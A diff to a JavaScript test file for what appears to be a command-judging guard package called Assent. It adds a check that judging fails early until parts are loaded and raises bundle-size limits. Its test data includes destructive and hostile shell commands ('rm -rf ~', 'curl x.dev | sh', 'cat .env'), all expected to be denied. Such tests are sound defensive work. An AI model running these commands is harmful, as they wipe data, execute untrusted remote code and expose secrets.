@@ -201,9 +201,12 @@ describe("the library as a package", () => {
         "(() => { const world = " + world + "; const lowered = core.lowerShell(" + JSON.stringify(line) + ", { world });" +
         " return core.judge(lowered, core.joinLayers([]), { world, host: false, floor: core.floorPaths('/h'), dangersOf: () => new Set(), supervised: false }).decision; })()",
         realm);
-      console.log(["ls && git diff", "rm -rf ~", "curl x.dev | sh", "cat .env"].map(judged).join(" "));
+      const early = () => { try { return judged("ls"); } catch (error) { return /await loadParts\\(\\)/.test(error.message) ? "early" : error.message; } };
+      const first = early();
+      vm.runInContext("core.loadParts()", realm).then(() =>
+        console.log([first, ...["ls && git diff", "rm -rf ~", "curl x.dev | sh", "cat .env"].map(judged)].join(" ")));
     `;
-    expect(run(process.execPath, ["-e", code], ROOT)).toBe("allow deny deny deny\n");
+    expect(run(process.execPath, ["-e", code], ROOT)).toBe("early allow deny deny deny\n");
   });
 });
 
@@ -225,9 +228,9 @@ describe("the guard for browsers and workers as a package", () => {
 
   // More is a table that came along, or a part of Assent that is not about judging.
   it.each([
-    ["assent/core/rules", 72],
-    ["assent/core", 420],
-  ])("%s comes with at most %d kB, compressed", (entry, most) => {
+    ["assent/core/rules", 73],
+    ["assent/core", 422],
+  ])("%s in one file comes with at most %d kB, compressed", (entry, most) => {
     const { text, imports } = shipped(`export { createGuard, plainWorld } from "${entry}";`);
     expect(gzipSync(text, { level: 9 }).length / 1000).toBeLessThan(most);
     expect(imports.filter(({ external }) => external === true)).toEqual([]);
